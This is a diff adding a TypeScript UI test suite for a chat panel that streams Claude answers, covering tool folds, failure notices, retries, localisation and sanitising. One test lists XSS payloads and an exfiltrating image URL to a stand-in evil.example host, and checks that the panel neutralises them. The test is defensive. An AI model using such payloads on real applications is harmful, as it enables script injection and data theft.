@@ -1,0 +1,390 @@
+import assert from 'node:assert/strict';
+import type { FailureCode, Outcome } from '../../src/shared/chat';
+import { answer, chat, failure, longAnswer, shortTools, startedAt, text, tool, user } from './chats';
+import { conversation, type PanelBench, PanelPage, startBench } from './panelPage';
+
+const question = user('u1', 'Why?');
+
+function ended(outcome: Outcome) {
+  return chat([question, answer('u1', [text('a', 'Some of it.')], { outcome })]);
+}
+
+describe('The transcript', () => {
+  let bench: PanelBench;
+  let panel: PanelPage;
+  let expectProblems = false;
+
+  before(async () => {
+    bench = await startBench();
+  });
+  after(() => bench.close());
+  beforeEach(() => {
+    expectProblems = false;
+  });
+  afterEach(async () => {
+    const { problems } = panel;
+    await panel.close();
+    if (!expectProblems) assert.deepEqual(problems, []);
+  });
+
+  it('follows a turn from question to end', async () => {
+    panel = await PanelPage.open(bench);
+    await panel.events(
+      { type: 'item', item: question },
+      { type: 'activity', activity: { kind: 'waiting', since: Date.now() } },
+      { type: 'answerStarted', id: 'u1', at: Date.now(), model: 'claude-opus-4-8' },
+    );
+    assert.equal(await panel.words('.bubble'), 'Why?');
+    assert.match(await panel.words('.status'), /^Waiting for Claude · \d s$/);
+    await panel.events(
+      {
+        type: 'partStarted',
+        answer: 'u1',
+        part: { type: 'thinking', key: 'th', text: '', open: true, durationMs: null },
+      },
+      { type: 'activity', activity: { kind: 'thinking', since: Date.now() - 6000 } },
+      { type: 'delta', answer: 'u1', key: 'th', text: 'I should look.' },
+    );
+    assert.match(await panel.words('.foldLine'), /Thinking · 6 s/);
+    assert.equal(await panel.page.locator('.foldBody').count(), 0, 'closed by default');
+    await panel.page.locator('.foldLine').click();
+    await panel.events({ type: 'delta', answer: 'u1', key: 'th', text: ' Closely.' });
+    assert.equal(await panel.words('.thinkingText'), 'I should look. Closely.');
+    await panel.events({ type: 'partEnded', answer: 'u1', key: 'th', durationMs: 6100 });
+    assert.match(await panel.words('.foldLine'), /Thought for 6 s/);
+    const { output: _output, summary: _summary, ...started } = tool('t1', {});
+    await panel.events(
+      { type: 'partStarted', answer: 'u1', part: { ...started, status: 'running', output: null, summary: null } },
+      {
+        type: 'tool',
+        answer: 'u1',
+        key: 't1',
+        status: 'done',
+        label: { text: 'Read {0}', args: ['a.ts'] },
+        summary: { text: '{0} lines', args: [3] },
+        output: 'text',
+      },
+    );
+    assert.match(await panel.words('.tool'), /Read a\.ts\s+·?\s*3 lines/);
+    await panel.events(
+      { type: 'partStarted', answer: 'u1', part: text('a', '', true) },
+      { type: 'delta', answer: 'u1', key: 'a', text: 'It is **bo' },
+      { type: 'delta', answer: 'u1', key: 'a', text: 'ld**.' },
+      { type: 'partEnded', answer: 'u1', key: 'a', durationMs: null },
+      {
+        type: 'usage',
+        answer: 'u1',
+        usage: { input: 1, cacheRead: 0, cacheWrite5m: 0, cacheWrite1h: 0, output: 1 },
+        usd: 0.043,
+      },
+      { type: 'answerEnded', answer: 'u1', at: Date.now(), outcome: { kind: 'done' } },
+      { type: 'title', title: 'Login race' },
+    );
+    assert.equal(await panel.words('.answer strong'), 'bold');
+    assert.match(await panel.words('.turnCost'), /^\$0\.043 · /);
+    assert.equal(await panel.words('.title'), 'Login race');
+    assert.equal(await panel.page.locator('.status').count(), 0);
+  });
+
+  it('asks for a snapshot when events are missing, and shows nothing partial', async () => {
+    panel = await PanelPage.open(bench, { state: chat([question]) });
+    const late = { type: 'title', title: 'late' } as const;
+    await panel.post({ type: 'events', conversation, seq: 5, events: [late] });
+    assert.deepEqual(await panel.said('resync'), [{ type: 'resync', conversation }]);
+    await panel.post({ type: 'events', conversation, seq: 6, events: [late] });
+    await panel.settled();
+    assert.equal(await panel.words('.title'), 'Login race');
+    assert.equal((await panel.said('resync')).length, 1, 'asked once');
+    await panel.snapshot({ state: chat([question], { title: 'whole again' }) });
+    await panel.settled();
+    assert.equal(await panel.words('.title'), 'whole again');
+  });
+
+  it('takes events that overlap with a snapshot once', async () => {
+    panel = await PanelPage.open(bench, { state: chat([]) });
+    const item = (id: string) => ({ type: 'item', item: user(id, id) }) as const;
+    await panel.events(item('a'), item('b'));
+    await panel.post({ type: 'events', conversation, seq: 2, events: [item('b'), item('c')] });
+    await panel.settled();
+    assert.deepEqual((await panel.page.locator('.bubble').allTextContents()).map((words) => words.trim()), ['a', 'b', 'c']);
+  });
+
+  it('ignores what belongs to another conversation', async () => {
+    panel = await PanelPage.open(bench, { state: chat([question]) });
+    await panel.post({ type: 'events', conversation: 'other', seq: 1, events: [{ type: 'title', title: 'x' }] });
+    await panel.post({ type: 'setDraft', conversation: 'other', text: 'x' });
+    await panel.settled();
+    assert.equal(await panel.words('.title'), 'Login race');
+    assert.equal(await panel.page.locator('textarea').inputValue(), '');
+  });
+
+  it('folds the tools of a finished turn into one line and leaves failures in sight', async () => {
+    const failed = tool('t4', {
+      status: 'failed',
+      label: { text: 'Read {0}', args: ['gone.ts'] },
+      summary: { text: 'No such file' },
+    });
+    panel = await PanelPage.open(bench, {
+      state: chat([question, answer('u1', [...shortTools, failed, text('a', 'Done.')])]),
+    });
+    assert.match(await panel.words('.toolGroup .foldLine'), /Read 3 files, searched once/);
+    assert.deepEqual(
+      (await panel.page.locator('.tool').allTextContents()).map((line) => line.includes('gone.ts')),
+      [true],
+    );
+    await panel.page.locator('.toolGroup .foldLine').first().click();
+    await panel.settled();
+    assert.equal(await panel.page.locator('.tool').count(), 4);
+    await panel.page.locator('.tool .foldLine').first().click();
+    await panel.settled();
+    assert.match(await panel.words('.toolText'), /"path": "src\/login\.ts"/);
+    const height = (await panel.page.locator('.toolText').first().boundingBox())?.height ?? 999;
+    assert.ok(height <= 258, String(height));
+  });
+
+  it('says how each turn ended, with one primary thing to do', async () => {
+    const outcomes: readonly (readonly [Outcome, RegExp, string])[] = [
+      [{ kind: 'stopped' }, /^Stopped\./, 'continue'],
+      [{ kind: 'interrupted' }, /interrupted/, 'continue'],
+      [{ kind: 'maxTokens' }, /length limit/, 'continue'],
+      [{ kind: 'contextWindow' }, /context window of Opus 4\.8/, 'newChat'],
+      [
+        { kind: 'refusal', category: null, explanation: 'Because.' },
+        /declined to answer this\. Because\./,
+        'restorePrompt',
+      ],
+      [{ kind: 'empty' }, /without an answer/, 'retry'],
+      [{ kind: 'pauseLimit' }, /paused/, 'continue'],
+      [{ kind: 'stepLimit', steps: 40 }, /after 40 steps/, 'continue'],
+      [{ kind: 'unknown', stopReason: 'novel' }, /novel/, 'continue'],
+    ];
+    panel = await PanelPage.open(bench);
+    for (const [outcome, words, step] of outcomes) {
+      await panel.snapshot({ state: ended(outcome) });
+      await panel.settled();
+      const card = panel.page.locator('.notice, .stopped');
+      assert.match(await panel.words(card), words, outcome.kind);
+      assert.equal(await card.locator('button').first().getAttribute('data-step'), step, outcome.kind);
+      assert.ok((await card.locator('.button').count()) <= 1, outcome.kind);
+      assert.equal(await panel.words('.markdown'), 'Some of it.', 'what arrived is kept');
+    }
+  });
+
+  it('says what failed, with one primary button and the details', async () => {
+    const steps: Readonly<Record<FailureCode, string>> = {
+      noKey: 'setKey',
+      badKey: 'setKey',
+      noCredit: 'openBilling',
+      notPermitted: 'openSettings',
+      unknownModel: 'openSettings',
+      promptTooLong: 'newChat',
+      requestTooLarge: 'newChat',
+      badRequest: 'retry',
+      rateLimited: 'retry',
+      spendLimit: 'openBilling',
+      overloaded: 'retry',
+      serverError: 'retry',
+      noConnection: 'retry',
+      connectionLost: 'retry',
+      stalled: 'retry',
+      badAddress: 'openSettings',
+      storeFailed: 'openLog',
+      internal: 'retry',
+    };
+    panel = await PanelPage.open(bench);
+    const seen = new Set<string>();
+    for (const [code, step] of Object.entries(steps) as [FailureCode, string][]) {
+      await panel.snapshot({ state: ended({ kind: 'failed', failure: failure({ code }) }) });
+      await panel.settled();
+      const primary = panel.page.locator('.notice .button');
+      assert.equal(await primary.count(), 1, code);
+      assert.equal(await primary.getAttribute('data-step'), step, code);
+      seen.add(await panel.words('.noticeText'));
+      await panel.page.locator('.noticeDetails').evaluate((element) => element.setAttribute('open', ''));
+      assert.match(await panel.words('.noticeDetails'), /529[\s\S]*overloaded_error[\s\S]*req_011C/);
+    }
+    assert.equal(seen.size, Object.keys(steps).length, 'each failure has words of its own');
+  });
+
+  it('keeps what arrived of a lost answer and offers to go on', async () => {
+    const lost = failure({ code: 'connectionLost', partial: true });
+    panel = await PanelPage.open(bench, { state: ended({ kind: 'failed', failure: lost }) });
+    assert.equal(await panel.words('.noticeText'), 'The connection was lost during the answer. What arrived is kept.');
+    await panel.page.locator('.notice .button').click();
+    await panel.page.locator('.notice [data-step="retry"]').click();
+    const said = await panel.said();
+    assert.deepEqual(said.slice(-2), [
+      { type: 'continue', conversation },
+      { type: 'retry', conversation },
+    ]);
+  });
+
+  it('counts down to the next try, which can be had at once or not at all', async () => {
+    const at = Date.now() + 8400;
+    const activity = { kind: 'retrying', since: Date.now(), at, attempt: 2, of: 5, failure: failure() } as const;
+    panel = await PanelPage.open(bench, {
+      state: chat([question, answer('u1', [], { outcome: null, endedAt: null })], { activity }),
+    });
+    const words = await panel.words('.noticeText');
+    assert.match(words, /^Claude is overloaded\. Trying again in [5-9] s \(2 of 5\)\.$/);
+    await panel.page.waitForFunction((before) => document.querySelector('.noticeText')?.textContent !== before, words);
+    await panel.page.locator('[data-step="retryNow"]').click();
+    await panel.page.locator('.notice [data-step="stop"]').click();
+    assert.deepEqual((await panel.said()).slice(-2), [
+      { type: 'retryNow', conversation },
+      { type: 'stop', conversation },
+    ]);
+  });
+
+  it('acts on the last turn only', async () => {
+    const old = answer('u1', [text('a', 'x')], { outcome: { kind: 'maxTokens' } });
+    panel = await PanelPage.open(bench, {
+      state: chat([question, old, user('u2', 'again'), answer('u2', [text('b', 'y')])]),
+    });
+    assert.equal(await panel.page.locator('[data-step="continue"]').count(), 0);
+    assert.equal(await panel.page.locator('[data-step="retry"]').count(), 1);
+  });
+
+  it('shows HTML as text and lets no link run anything or load anything (L29)', async () => {
+    const requests: string[] = [];
+    const evil = [
+      '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>',
+      '[a](javascript:window.hacked=1) [b](JaVaScRiPt:window.hacked=1) [c](data:text/html,<script>window.hacked=1</script>)',
+      '[d](vbscript:x) [e](command:workbench.action.quit) [f](vscode://x/y) [g](//evil.example/x) [h](file:///etc/passwd)',
+      '![pixel](https://evil.example/leak.png?secret) ![local](images/a.png)',
+      '<a href="javascript:window.hacked=1">click</a>',
+      '&#x6A;avascript:window.hacked=1 [i](&#x6A;avascript:window.hacked=1) [j](java&Tab;script:window.hacked=1)',
+    ].join('\n\n');
+    panel = await PanelPage.open(bench);
+    panel.page.on('request', (request) => requests.push(request.url()));
+    await panel.snapshot({ state: chat([question, answer('u1', [text('a', evil)])]) });
+    await panel.settled();
+    assert.equal(await panel.page.locator('.markdown').locator('img, script, iframe, object').count(), 0);
+    for (const link of await panel.page.locator('.markdown a').all()) {
+      assert.match((await link.getAttribute('href')) ?? '', /^(#|https?:\/\/|mailto:)/);
+      await link.click();
+    }
+    for (const dead of await panel.page.locator('.markdown .deadLink').all()) await dead.click();
+    assert.equal(await panel.page.evaluate(() => 'hacked' in window), false);
+    assert.ok((await panel.words('.markdown')).includes('pixel (https://evil.example/leak.png?secret)'));
+    const said = await panel.said();
+    assert.deepEqual(
+      said.flatMap((message) => (message.type === 'openLink' ? [message.url] : [])),
+      ['https://evil.example/leak.png?secret'],
+    );
+    assert.deepEqual(
+      requests.filter((url) => !url.startsWith(bench.server.origin)),
+      [],
+    );
+  });
+
+  it('opens files at their line and gives code to the clipboard and the editor', async () => {
+    panel = await PanelPage.open(bench, { state: chat([question, answer('u1', [text('a', longAnswer)])]) });
+    await panel.page.locator('.markdown a', { hasText: 'session.ts' }).click();
+    await panel.page.locator('.markdown a', { hasText: 'login.ts:42' }).click();
+    await panel.page.locator('.markdown a', { hasText: 'the guide' }).click();
+    await panel.page.locator('[data-code="copy"]').click();
+    await panel.page.locator('[data-code="insert"]').click();
+    await panel.page.locator('[data-copy="answer"]').click();
+    const code = longAnswer.split('```')[1]?.replace(/^ts\n/, '').trimEnd();
+    assert.deepEqual((await panel.said()).slice(-6), [
+      { type: 'openFile', path: 'src/session.ts', line: 118 },
+      { type: 'openFile', path: 'login.ts', line: 42 },
+      { type: 'openLink', url: 'https://example.com/guide' },
+      { type: 'copy', text: code },
+      { type: 'insert', text: code },
+      { type: 'copy', text: longAnswer },
+    ]);
+  });
+
+  it('colours code when its fence has closed', async () => {
+    panel = await PanelPage.open(bench, {
+      state: chat([question, answer('u1', [text('a', '', true)], { outcome: null, endedAt: null })], {
+        activity: { kind: 'writing', since: startedAt },
+      }),
+    });
+    await panel.events({ type: 'delta', answer: 'u1', key: 'a', text: '```ts\nconst a = 1;\n' });
+    assert.equal(await panel.page.locator('code .hl-keyword').count(), 0);
+    await panel.events({ type: 'delta', answer: 'u1', key: 'a', text: '```\n' });
+    await panel.page.waitForSelector('code .hl-keyword');
+    assert.equal(await panel.words('code'), 'const a = 1;');
+  });
+
+  it('writes out what would be invisible (L37)', async () => {
+    panel = await PanelPage.open(bench, {
+      state: chat([user('u1', 'a\u202eb'), answer('u1', [text('a', 'x\u200by `c\u2066d`')])]),
+    });
+    assert.equal(await panel.words('.bubbleText'), 'a\\u{202e}b');
+    assert.equal(await panel.words('.markdown'), 'x\\u{200b}y c\\u{2066}d');
+  });
+
+  it('lets right-to-left text and code have their own directions (L30)', async () => {
+    panel = await PanelPage.open(bench, {
+      state: chat([
+        user('u1', 'שלום'),
+        answer('u1', [text('a', 'مرحبا بالعالم\n\nhello\n\n- 你好，世界\n\n```\nx\n```')]),
+      ]),
+    });
+    const direction = (selector: string) =>
+      panel.page
+        .locator(selector)
+        .first()
+        .evaluate((element) => getComputedStyle(element).direction);
+    assert.equal(await direction('.bubbleText'), 'rtl');
+    assert.equal(await direction('.markdown p:first-of-type'), 'rtl');
+    assert.equal(await direction('.markdown p:nth-of-type(2)'), 'ltr');
+    assert.equal(await direction('.markdown pre'), 'ltr');
+    assert.equal(await panel.words('.markdown li'), '你好，世界');
+  });
+
+  it('says what failed when it cannot be shown, tells the host, and comes back (L19)', async () => {
+    expectProblems = true;
+    panel = await PanelPage.open(bench);
+    const broken = { ...chat([question]), items: [{ type: 'answer', id: 'x', parts: null }] };
+    await panel.snapshot({ state: broken as never });
+    const failed = panel.page.locator('.viewFailed');
+    await failed.waitFor();
+    assert.match(await panel.words(failed), /could not show this conversation/);
+    assert.equal((await panel.said('viewFailed')).length, 1);
+    await panel.forget();
+    await failed.getByRole('button', { name: 'Reload view' }).click();
+    assert.equal((await panel.said('ready')).length, 1);
+    await panel.start({ state: chat([question]) });
+    assert.equal(await panel.words('.bubble'), 'Why?');
+  });
+
+  it('offers the key, the prompts and the demo’s line where they belong', async () => {
+    panel = await PanelPage.open(bench, { environment: { key: { kind: 'missing' } } });
+    await panel.page.locator('.empty .button').click();
+    assert.deepEqual(await panel.said('do'), [{ type: 'do', action: 'setKey' }]);
+    await panel.post({
+      type: 'environment',
+      environment: {
+        key: { kind: 'demo' },
+        prompts: ['Find it'],
+        fontSize: null,
+        fontFamily: null,
+        workspaceName: null,
+        words: {},
+        locale: 'en',
+      },
+    });
+    await panel.settled();
+    assert.match(await panel.words('.demoLine'), /local stand-in answers, not Claude/);
+    assert.match(await panel.words('.cost .notNarrow'), /^Would cost/);
+    await panel.page.locator('.prompt').click();
+    assert.equal(await panel.page.locator('textarea').inputValue(), 'Find it');
+  });
+
+  it('speaks the user’s language', async () => {
+    panel = await PanelPage.open(bench, {
+      environment: {
+        words: { 'Thought for {0}': '{0} nachgedacht', '{0} s': '{0} Sek.', Send: 'Senden' },
+        locale: 'de',
+      },
+      state: chat([question, answer('u1', shortTools.slice(0, 1))]),
+    });
+    assert.match(await panel.words('.foldLine'), /6 Sek\. nachgedacht/);
+    assert.equal(await panel.page.locator('[data-do="send"]').getAttribute('aria-label'), 'Senden');
+  });
+});
